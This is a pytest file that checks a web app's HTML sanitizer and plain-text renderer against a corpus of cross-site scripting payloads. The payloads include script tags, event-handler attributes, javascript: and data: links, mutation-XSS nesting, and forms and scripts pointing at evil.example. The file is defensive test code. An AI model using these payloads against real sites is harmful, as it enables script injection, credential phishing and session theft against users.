"""The one cleaning function against a corpus of attacks, and the plain-text renderer."""

import re

import pytest

from participation.plain_text import paragraphs
from participation.rich_text import clean_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    '<a href="https://ok.example" style="position:fixed;inset:0">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<p><a href='https://ok.example'\"><img src=x onerror=alert(1)></p>",
    "<<script>alert(1)//<</script>",
    "<textarea><script>alert(1)</script></textarea>",
    '<xmp><p title="</xmp><script>alert(1)</script>"></xmp>',
    "<template><script>alert(1)</script></template>",
    '<video><source onerror="alert(1)"></video>',
    "<details open ontoggle=alert(1)>x</details>",
    '<p hx-get="/admin/" hx-trigger="load">x</p>',
    '<p id="main" class="button" name="x">x</p>',
]
PLAIN = r"</?(?:b|blockquote|br|em|h2|h3|h4|i|li|ol|p|strong|ul|a)>"
LINK = r'<a(?: (?:href="(?:https?:|mailto:)[^"<>]*"|rel="[a-z ]+"))*>'
ALLOWED = re.compile(f"{PLAIN}|{LINK}")


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_leaves_only_allowed_tags(attack):
    cleaned = clean_html(f"<p>before</p>{attack}")
    rest = ALLOWED.sub("", cleaned)
    assert "<" not in rest
    assert ">" not in rest
    assert "before" in cleaned


@pytest.mark.parametrize("attack", ATTACKS)
def test_cleaning_twice_changes_nothing(attack):
    once = clean_html(attack)
    assert clean_html(once) == once


def test_honest_text_stays_as_it_is():
    text = "<h2>Plan</h2><p>One <strong>big</strong> <em>thing</em><br>more</p><ul><li>a</li></ul>"
    assert clean_html(text) == text


def test_links_learn_nothing_of_the_page_they_stand_on():
    cleaned = clean_html('<a href="https://ok.example/?a=1&amp;b=2" target="_blank">go</a>')
    assert 'href="https://ok.example/?a=1&amp;b=2"' in cleaned
    assert "nofollow" in cleaned
    assert "noopener" in cleaned
    assert "target" not in cleaned


def test_bare_addresses_stay_words():
    assert clean_html("see https://ok.example today") == "see https://ok.example today"


@pytest.mark.parametrize("attack", ATTACKS)
def test_plain_text_shows_every_attack_as_words(attack):
    assert not re.search(r"<(?!/?(?:p|br|ul|li)>)", paragraphs(attack))


def test_plain_text_keeps_paragraphs_lines_and_lists():
    text = "First line\nsecond line\r\n\r\nWe need:\n- a tap\n- two bins\nSoon.\n\n\n"
    assert paragraphs(text) == (
        "<p>First line<br>second line</p>\n<p>We need:</p>\n"
        "<ul><li>a tap</li><li>two bins</li></ul>\n<p>Soon.</p>"
    )
